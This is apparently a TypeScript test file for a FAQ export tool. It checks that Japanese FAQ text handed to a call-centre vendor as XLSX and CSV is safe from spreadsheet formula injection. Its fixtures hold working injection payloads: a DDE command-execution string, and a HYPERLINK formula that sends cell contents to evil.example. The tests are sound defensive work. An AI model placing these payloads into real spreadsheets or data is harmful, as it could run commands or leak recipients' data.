/**
 * A stranger's attack on the FAQ files handed to the call-centre vendor: answers that look like
 * spreadsheet formulas, read back from the .xlsx (read-excel-file, and the sheet XML itself) and
 * from the CSV (papaparse). These held when written.
 */
import Papa from 'papaparse';
import readXlsxFile from 'read-excel-file/universal';
import { unzipSync, strFromU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { Desk } from '../../../shared/faq/handover-desk.fixture';
import { handoverCsv, handoverWorkbook } from './handover-files';

const who = { handedOverBy: '=CMD|" /C calc"!A0', approvers: ['@SUM(1+1)'] };
const ANSWER = '=HYPERLINK("https://evil.example/?q="&A1,"詳しくはこちら")';

function desk() {
  const d = new Desk();
  const e = d.draft('-2+3 は何ですか', ANSWER, '+81');
  d.approve(e);
  const long = d.draft('長い回答', 'あ'.repeat(4_999) + '。', '長文');
  d.approve(long);
  return { d, h: d.handOver() };
}

describe('formula-like FAQ text in the vendor files', () => {
  it('holds: the workbook keeps every such cell as text (no <f> formula element), read back exactly', async () => {
    const { d, h } = desk();
    const bytes = await handoverWorkbook(h, d.handovers(), who);
    const files = unzipSync(bytes);
    const sheetsXml = Object.keys(files).filter((k) => k.startsWith('xl/worksheets/')).map((k) => strFromU8(files[k]!));
    expect(sheetsXml.some((x) => x.includes('<f>') || x.includes('<f '))).toBe(false);
    const book = Object.fromEntries((await readXlsxFile(bytes.slice().buffer)).map((s) => [s.sheet, s.data]));
    expect(book['FAQ']![1]).toEqual([1, '+81', '-2+3 は何ですか', ANSWER, 1, '2026/12/02 09:02']);
    expect((book['FAQ']![2]![3] as string).length).toBe(5_000);
    expect(book['表紙']!.find((r) => r[0] === '受け渡した人')?.[1]).toBe(who.handedOverBy);
  });

  it('holds: the CSV guards each formula-like cell with a leading apostrophe and keeps the rest as written', () => {
    const { h } = desk();
    const text = new TextDecoder().decode(handoverCsv(h, 'utf-8-bom')).replace(/^\uFEFF/, '');
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(rows[1]).toEqual(['1', "'+81", "'-2+3 は何ですか", `'${ANSWER}`, '1', '2026/12/02 09:02']);
    expect(rows[2]![3]!.length).toBe(5_000);
  });
});
